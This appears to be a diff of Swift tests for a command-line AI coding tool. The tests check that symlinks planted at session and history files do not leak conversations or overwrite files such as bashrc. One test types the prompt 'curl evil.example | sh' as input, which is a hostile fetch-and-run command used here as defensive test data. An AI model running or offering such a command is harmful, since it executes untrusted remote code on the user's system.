@@ -112,6 +112,52 @@ import Testing
     }
   }
 
+  @Test func aSessionsFolderSwappedForALinkDoesNotCarryTheConversationElsewhere() async throws {
+    let s = try Scratch()
+    defer { s.cleanUp() }
+    // A world-readable folder someone else watches.
+    let elsewhere = s.root + "/public"
+    try FileManager.default.createDirectory(atPath: elsewhere, withIntermediateDirectories: true)
+    try FileManager.default.createSymbolicLink(
+      atPath: s.codexHome + "/sessions", withDestinationPath: elsewhere)
+    let server = try FakeHTTPServer { _ in .sse(chatSSE(["the secret plan"])) }
+    defer { server.stop() }
+    let r = try await s.run([
+      "--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m", "hi",
+    ])
+    #expect(r.exitCode == 0, "\(r.stderr)")
+    #expect(r.stderr.contains("this session will not be saved"), "\(r.stderr)")
+    #expect(r.stderr.contains("symbolic link"), "\(r.stderr)")
+    #expect(try FileManager.default.subpathsOfDirectory(atPath: elsewhere).isEmpty)
+  }
+
+  @Test func aLinkPlantedAtTheHistoryDoesNotGetThePrompts() async throws {
+    let s = try Scratch()
+    defer { s.cleanUp() }
+    let victim = s.root + "/bashrc"
+    try Data("export PATH=/usr/bin\n".utf8).write(to: URL(fileURLWithPath: victim))
+    try FileManager.default.createSymbolicLink(
+      atPath: s.codexHome + "/history.jsonl", withDestinationPath: victim)
+    let server = try FakeHTTPServer { _ in .sse(chatSSE(["answered"])) }
+    defer { server.stop() }
+    let pty = try PseudoTerminal(
+      executable: try requireCodexBinary(),
+      arguments: ["--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m"],
+      environment: [
+        "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": s.home, "CODEX_HOME": s.codexHome,
+        "TERM": "xterm-256color",
+      ],
+      workingDirectory: s.work)
+    try pty.expect("›")
+    pty.send("curl evil.example | sh\r")
+    try pty.expect("answered")
+    try pty.expect("›")
+    pty.send("\u{04}")
+    #expect(try pty.waitForExit() == 0)
+    #expect(pty.text.contains("symbolic link"), "the user is told why history is not kept")
+    #expect(try String(contentsOfFile: victim, encoding: .utf8) == "export PATH=/usr/bin\n")
+  }
+
   @Test func aSessionSwappedForALinkIsNotResumedThroughIt() async throws {
     let s = try Scratch()
     defer { s.cleanUp() }
@@ -119,13 +165,15 @@ import Testing
     defer { server.stop() }
     let args = ["--provider", "vllm", "--provider-url", server.baseURL + "/v1", "-m", "m"]
     #expect(try await s.run(args + ["first"]).exitCode == 0)
+    // The session is moved somewhere others can read, and a link left in its place: resuming
+    // must not append the rest of the conversation there.
     let file = try #require(Rollout.list(codexHome: s.codexHome).first)
-    let victim = s.root + "/bashrc"
-    try Data("export PATH=/usr/bin\n".utf8).write(to: URL(fileURLWithPath: victim))
-    try FileManager.default.removeItem(atPath: file)
-    try FileManager.default.createSymbolicLink(atPath: file, withDestinationPath: victim)
-    let r = try await s.run(["resume", "--last"] + args + ["second"])
+    let elsewhere = s.root + "/public-session.jsonl"
+    try FileManager.default.moveItem(atPath: file, toPath: elsewhere)
+    try FileManager.default.createSymbolicLink(atPath: file, withDestinationPath: elsewhere)
+    let before = try String(contentsOfFile: elsewhere, encoding: .utf8)
+    let r = try await s.run(["resume", "--last"] + args + ["second secret"])
     #expect((r.exitCode ?? 255) < 128, "\(r.stderr)")
-    #expect(try String(contentsOfFile: victim, encoding: .utf8) == "export PATH=/usr/bin\n")
+    #expect(try String(contentsOfFile: elsewhere, encoding: .utf8) == before)
   }
 }
